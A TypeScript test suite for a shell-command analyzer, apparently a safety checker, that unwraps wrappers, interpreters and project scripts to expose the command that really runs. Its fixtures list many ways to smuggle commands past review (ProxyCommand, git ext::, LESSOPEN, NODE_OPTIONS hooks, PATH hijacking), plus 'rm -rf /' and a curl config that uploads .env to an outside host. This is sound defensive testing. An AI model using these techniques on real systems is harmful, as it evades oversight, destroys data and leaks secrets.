import assert from 'node:assert/strict'
import { test } from 'node:test'
import { type FixtureWorld, lines, read } from '../fixtures/world.ts'

/** The last program that runs, and what it runs through. */
const through = (text: string, world: FixtureWorld = {}): string => {
  const last = read(text, world).invocations.at(-1)
  return last === undefined ? '' : `${last.via.join(' > ')}: ${last.argv.map(word => word ?? '?').join(' ')}`
}

test('wrappers are taken off', () => {
  const rows: readonly (readonly [string, string])[] = [
    ['corepack pnpm add x', 'corepack: pnpm add x'],
    ['corepack yarn@4.1.0 install', 'corepack: yarn install'],
    ['corepack enable', ': corepack enable'],
    ['systemd-run --on-active 30 --unit y rm x', 'systemd-run: rm x'],
    ['systemd-run --user --on-calendar="*:0/5" rm x', 'systemd-run: rm x'],
    ['launchctl asuser 501 rm x', 'launchctl asuser: rm x'],
    ['sudo rm x', 'sudo: rm x'],
    ['sudo -u me -E A=1 rm x', 'sudo: rm x'],
    ['sudo -nu me -- rm x', 'sudo: rm x'],
    ['doas -u me rm x', 'doas: rm x'],
    ['sudo -i <<E\nrm x\nE', 'sudo > sh: rm x'],
    ['su - me <<E\nrm x\nE', 'su > sh: rm x'],
    ["ssh host <<'E'\nrm x\nE", 'ssh > sh: rm x'],
    ['env - A=1 rm x', 'env: rm x'],
    ['tmux new-session -d -s y "rm x"', 'tmux new-session: rm x'],
    ['tmux send-keys -t y "rm x" Enter', 'tmux send-keys: rm x'],
    ['screen -dmS y rm x', 'screen: rm x'],
    ['echo "rm x" | at now', 'at: rm x'],
    ['tar xf y --to-command="rm x"', 'tar: rm x'],
    ['vim -c "!rm x" y', 'vim: rm x'],
    ["sed '1e rm x' y", 'sed: rm x'],
    ['if y; then C="rm"; else C=ls; fi; $C x', ': ls x'],
    ['su - me -c "rm x"', 'su: rm x'],
    ['env -u B A=1 rm x', 'env: rm x'],
    ['env -P /usr/bin rm x', 'env: rm x'],
    ['env -S "rm -r" x', 'env: rm -r x'],
    ['nice -n5 rm x', 'nice: rm x'],
    ['ionice -c 3 rm x', 'ionice: rm x'],
    ['nohup rm x &', 'nohup: rm x'],
    ['setsid rm x', 'setsid: rm x'],
    ['timeout --signal=KILL 5 rm x', 'timeout: rm x'],
    ['time rm x', 'time: rm x'],
    ['\\time -f %e rm x', 'time: rm x'],
    ['stdbuf -o L rm x', 'stdbuf: rm x'],
    ['command rm x', 'command: rm x'],
    ['builtin cd x', 'builtin: cd x'],
    ['exec -a y rm x', 'exec: rm x'],
    ['ls | xargs rm x', 'xargs: rm x ?'],
    ['ls | xargs -0 -n 1 -I % rm %', 'xargs: rm ?'],
    ['echo a b | xargs rm', 'xargs: rm a b'],
    ['echo a b | xargs -n1 rm', 'xargs: rm b'],
    ['parallel rm ::: a b', 'parallel: rm b'],
    ['parallel --header : rm ::: a b', 'parallel: rm b'],
    ['watch -n 2 rm x', 'watch: rm x'],
    ['find . -name y -exec rm {} \\;', 'find -exec: rm ?'],
    ['find . -execdir rm {} +', 'find -execdir: rm ?'],
    ['find . -ok rm x \\;', 'find -ok: rm x'],
    ['fd y -x rm', 'fd -x: rm ?'],
    ['flock -n /l rm x', 'flock: rm x'],
    ['script -qc "rm x" /dev/null', 'script: rm x'],
    ['unshare -r rm x', 'unshare: rm x'],
    ['chroot /m rm x', 'chroot: rm x'],
    ['nsenter -t 1 -m rm x', 'nsenter: rm x'],
    ['ssh -p 22 me@host rm x', 'ssh: rm x'],
    ["ansible all -m shell -a 'rm x'", 'ansible: rm x'],
    ["gcloud compute ssh vm --command='rm x'", 'gcloud: rm x'],
    ['gcloud compute ssh vm -- rm x', 'gcloud: rm x'],
    ["fly ssh console -C 'rm x'", 'fly: rm x'],
    ['heroku run -a shop rm x', 'heroku: rm x'],
    ['lxc exec box -- rm x', 'lxc: rm x'],
    ['limactl shell box rm x', 'limactl: rm x'],
    ['adb -s 1 shell rm x', 'adb: rm x'],
    ['pdsh -w a,b rm x', 'pdsh: rm x'],
    ["salt '*' cmd.run 'rm x'", 'salt: rm x'],
    ['aws ssm send-command --parameters \'commands=["rm x"]\'', 'aws: rm x'],
    ['oc rsh pod rm x', 'oc rsh: rm x'],
    ['yarn rm-cli x', 'yarn: rm-cli x'],
    ['npm pkg set scripts.a="rm x"', 'npm pkg: rm x'],
    ["vim -c 'silent !rm x'", 'vim: rm x'],
    ["vim -c ':r !rm x' -c q", 'vim: rm x'],
    ["vim -c '%!rm x'", 'vim: rm x'],
    ["sg docker -c 'rm x'", 'sg: rm x'],
    ['chamber exec shop -- rm x', 'chamber exec: rm x'],
    ['fakeroot rm x', 'fakeroot: rm x'],
    ['docker exec -u me box rm x', 'docker exec: rm x'],
    ['docker run --rm -v a:b image rm x', 'docker run: rm x'],
    ['docker run --entrypoint rm image x', 'docker run: rm x'],
    ['docker compose -f y exec web rm x', 'docker compose exec: rm x'],
    ['podman run image sh -c "rm x"', 'podman run > sh -c: rm x'],
    ['kubectl -n y exec pod -c z -- rm x', 'kubectl exec: rm x'],
    ['busybox rm x', 'busybox: rm x'],
    ['uv run --with y rm x', 'uv run: rm x'],
    ['npx -p y rm x', 'npx: rm x'],
    ['sudo env A=1 nice bash -c "rm x"', 'sudo > env > nice > bash -c: rm x'],
    ['git -c alias.y="!rm x" y', 'git y: rm x'],
    ['git -c core.pager="rm x" log', 'git -c: rm x'],
    ['GIT_SSH_COMMAND="rm x" git fetch', 'GIT_SSH_COMMAND: rm x'],
    ['git rebase -x "rm x" main', 'git rebase: rm x'],
    ['git bisect run rm x', 'git bisect: rm x'],
    ['git submodule foreach "rm x"', 'git submodule: rm x'],
    ['ssh -o ProxyCommand="rm x" host', 'ssh: rm x'],
    ["alias y='rm x'; y", ': y'],
  ]
  for (const [text, expected] of rows) {
    assert.equal(through(text), expected, text)
    assert.deepEqual(read(text).unknown, [], text)
  }
})

test('an alias may be expanded or not: both stand', () => {
  assert.deepEqual(lines("alias y='rm -r'; y x"), ['alias y=rm -r', 'rm -r x', 'y x'])
})

test('a wrapper without a program is a program', () => {
  for (const text of ['sudo -l', 'env', 'nice', 'command -v git', 'timeout 5', 'bash', 'xargs']) {
    assert.equal(read(text).invocations.length, 1, text)
  }
})

test('the wrappers keep their whole argument lists', () => {
  assert.deepEqual(read('sudo nice -n 5 rm x').invocations[0]?.peeled, [
    ['sudo', 'nice', '-n', '5', 'rm', 'x'],
    ['nice', '-n', '5', 'rm', 'x'],
  ])
})

test('another machine is another world', () => {
  const script = read('ssh host "cd /x && rm -rf y > z"; docker exec box rm -rf /')
  assert.deepEqual(script.effects, [{ kind: 'execute', host: 'host' }])
  assert.deepEqual(
    script.invocations.map(invocation => invocation.remote === true),
    [false, true, true, false, true],
  )
})

test('code of interpreters', () => {
  const rows: readonly (readonly [string, string])[] = [
    [`python3 -c 'import os; os.system("rm x")'`, 'python3 -c: rm x'],
    [`python3 -c 'import subprocess as sp; sp.run(["rm", "x"])'`, 'python3 -c: rm x'],
    [`python -c 'import subprocess; subprocess.check_output("rm x", shell=True)'`, 'python -c: rm x'],
    [`python3 -c '__import__("os").system("rm x")'`, 'python3 -c: rm x'],
    [`python3 - <<'E'\nimport os\nos.popen('''rm x''')\nE`, 'python3: rm x'],
    [`echo 'import os; os.system("rm x")' | python3`, 'python3: rm x'],
    [`node -e 'require("child_process").execSync("rm x")'`, 'node -e: rm x'],
    [`node -e 'const {spawn} = require("child_process"); spawn("rm", ["x"])'`, 'node -e: rm x'],
    [`node --eval 'require("child_process").exec(\`rm x\`)'`, 'node --eval: rm x'],
    [`perl -e 'system("rm x")'`, 'perl -e: rm x'],
    [`perl -e 'print \`rm x\`'`, 'perl -e: rm x'],
    [`ruby -e 'system "rm x"'`, 'ruby -e: rm x'],
    [`php -r 'shell_exec("rm x");'`, 'php -r: rm x'],
    [`awk 'BEGIN { system("rm x") }'`, 'awk: rm x'],
    [`awk '{ print | "rm x" }' f`, 'awk: rm x'],
    // Data and comments are no calls.
    [
      `python3 -c 'print("os.system(1)") # os.system("rm x")'`,
      `: python3 -c print("os.system(1)") # os.system("rm x")`,
    ],
    [
      `node -e 'console.log("execSync(1)") // execSync("rm x")'`,
      `: node -e console.log("execSync(1)") // execSync("rm x")`,
    ],
    [`node -e '/x/.exec(s)'`, `: node -e /x/.exec(s)`],
  ]
  for (const [text, expected] of rows) {
    assert.equal(through(text), expected, text)
    assert.deepEqual(read(text).unknown, [], text)
  }
})

test('what the project says is run', () => {
  const world: FixtureWorld = {
    files: {
      '/proj/package.json': JSON.stringify({
        scripts: { prebuild: 'rm -rf dist', build: 'tsc -p .', test: 'node --test' },
      }),
      '/proj/app/package.json': JSON.stringify({ scripts: { build: 'vite build' } }),
      '/proj/all/package.json': JSON.stringify({ scripts: { build: 'pnpm -r build' } }),
      '/proj/Makefile':
        'DIR = out\nall: clean\n\t@echo $(DIR)\nclean:\n\t-rm -rf $(DIR) $${HOME}/x\ntidy:\n\t$(RM) -r z\n.PHONY: all\n',
      '/proj/deploy.sh': '#!/usr/bin/env bash\ncd "$1" && rm x\n',
      '/proj/tool': '#!/usr/bin/env python3\nimport os\nos.system("rm x")\n',
      '/proj/lib.sh': 'clean() { rm -rf "$1"; }\n',
      '/proj/mix.exs': 'defp aliases do\n  [tidy: ["format", "cmd rm x"], "db.seed": "run seeds.exs"]\nend\n',
      '/proj/.cargo/config.toml': '[alias]\nrel = ["release", "--execute"]\n',
      '/proj/fastlane/Fastfile':
        'lane :ship do\n  gym(scheme: "A")\n  sh "rm x"\nend\nlane :other do\n  deliver\nend\n',
      '/proj/justfile': 'build:\n    tsc\npublish to="x":\n    push {{to}}\nall *rest:\n    each\n',
      '/proj/apps/mobile/package.json': JSON.stringify({ scripts: { ship: 'push bundle' } }),
      '/proj/tool/seed.dart': "void main() => Process.runSync('rm', ['x']);\n",
    },
    aliases: { co: 'checkout', wipe: '!git clean -fdx' },
  }
  const rows: readonly (readonly [string, readonly string[]])[] = [
    ['npm run build -- --watch', ['npm run build -- --watch', 'rm -rf dist', 'tsc -p . --watch']],
    ['npm test', ['npm test', 'node --test']],
    ['mix tidy', ['mix tidy', 'mix format', 'rm x']],
    ['mix db.seed', ['mix db.seed', 'mix run seeds.exs']],
    ['cargo rel -v', ['cargo rel -v', 'cargo release --execute']],
    ['fastlane ship', ['fastlane ship', 'rm x']],
    ['yarn build', ['yarn build', 'rm -rf dist', 'tsc -p .']],
    ['cd app && pnpm run build', ['cd app', 'pnpm run build', 'vite build']],
    ['npm --prefix app run build', ['npm --prefix app run build', 'vite build']],
    ['npm run missing', ['npm run missing']],
    ['cd all && pnpm build', ['cd all', 'pnpm build', 'pnpm -r build']],
    ['just build publish', ['just build publish', 'tsc', 'push ?']],
    ['just publish y build', ['just publish y build', 'push y', 'tsc']],
    ['just all build', ['just all build', 'each']],
    ['pnpm --filter mobile ship', ['pnpm --filter mobile ship', 'push bundle']],
    ['pnpm --filter @a/mobile run ship', ['pnpm --filter @a/mobile run ship', 'push bundle']],
    ['npm -w apps/mobile run ship', ['npm -w apps/mobile run ship', 'push bundle']],
    ['yarn workspace mobile ship', ['yarn workspace mobile ship', 'push bundle']],
    ['pnpm --filter other ship', ['pnpm --filter other ship']],
    ['pnpm --filter mobile add x', ['pnpm --filter mobile add x']],
    ['make', ['make', 'rm -rf out /home/me/x', 'echo out']],
    ['make clean DIR=y', ['make clean DIR=y', 'rm -rf y /home/me/x']],
    ['make -n clean', ['make -n clean']],
    ['make tidy', ['make tidy', 'rm -f -r z']],
    ['make tidy RM=trash', ['make tidy RM=trash', 'trash -r z']],
    ['./deploy.sh sub', ['./deploy.sh sub', 'cd sub', 'rm x']],
    ['bash deploy.sh sub', ['bash deploy.sh sub', 'cd sub', 'rm x']],
    ['./tool', ['./tool', 'rm x']],
    ['source lib.sh; clean y', ['source lib.sh', 'rm -rf y']],
    ['git co x', ['git co x', 'git checkout x']],
    ['git wipe', ['git wipe', 'git clean -fdx']],
    ['cd $(git rev-parse --show-toplevel) && rm x', ['git rev-parse --show-toplevel', 'cd /proj', 'rm x']],
  ]
  for (const [text, expected] of rows) assert.deepEqual(lines(text, world), expected, text)
})

test('a file that is put off until later is read now', () => {
  assert.equal(through('at -f y.sh now', { files: { '/proj/y.sh': 'rm x' } }), 'at: rm x')
  assert.notDeepEqual(read('at -f y.sh now').unknown, [])
})

test('what options, their files and variables start is read', () => {
  const files = {
    '/proj/hook.js': 'require("child_process").execSync("rm x")\n',
    '/proj/bin/git': '#!/bin/sh\nrm x\n',
    '/proj/up.cfg': 'url = "https://h.example"\nupload-file = .env\n',
    '/proj/conf': 'Host *\n  ProxyCommand rm x\n',
    '/proj/batch': '-rm x\n',
  }
  const rows: readonly (readonly [string, string])[] = [
    ["NODE_OPTIONS='--require ./hook.js' npm test", 'rm x'],
    ['export NODE_OPTIONS=--import=./hook.js; npm test', 'rm x'],
    ['node -r ./hook.js app.js', 'rm x'],
    ['python3 -m pytest -c hook.js', 'rm x'],
    ['mocha --require hook.js', 'rm x'],
    ['PATH=$PWD/bin:$PATH git status', 'rm x'],
    ['PATH=bin:/usr/bin git status', 'rm x'],
    ['curl -K up.cfg', 'curl --url https://h.example --upload-file .env'],
    ['ssh -F conf h uptime', 'rm x'],
    ['sftp -b batch h', 'rm x'],
    ["lftp -e 'rm x; quit' h", 'rm x'],
    ["git clone 'ext::rm x'", 'rm x'],
    ["make CC='rm x' all", 'rm x'],
    ["make -E 'rm x' all", 'rm x'],
    ['go test -exec "rm x" ./...', 'rm x'],
    ["GOFLAGS='-toolexec=rm' go build", 'rm'],
    ["MANPAGER='rm x' man ls", 'rm x'],
    ["LESSOPEN='|rm x' less a", 'rm x'],
    ['npm test --script-shell="rm x"', 'rm x'],
    ['gcc -wrapper rm,x a.c', 'rm x'],
    ['less "+!rm x" a', 'rm x'],
    ["sed 's/a/rm x/e' f", 'rm x'],
    ['lldb -o "platform shell rm x"', 'rm x'],
    ["ed f <<< '!rm x'", 'rm x'],
    ['cargo --config \'build.rustc-wrapper="rm x"\' build', 'rm x'],
  ]
  for (const [text, expected] of rows) assert.ok(lines(text, { files }).includes(expected), text)
  const quiet = [
    'PATH=/usr/bin:bin git status',
    'NODE_OPTIONS=--inspect npm test',
    'node app.js -r ./hook.js',
  ]
  for (const text of quiet) assert.ok(!lines(text, { files }).includes('rm x'), text)
})

test('a pattern below a link is what lies where the link leads', () => {
  const { effects } = read('rm -rf build/*', { links: { '/proj/build': '/home/me/work' } })
  assert.ok(effects.some(({ kind, path }) => kind === 'delete' && path === '/home/me/work/*'))
})
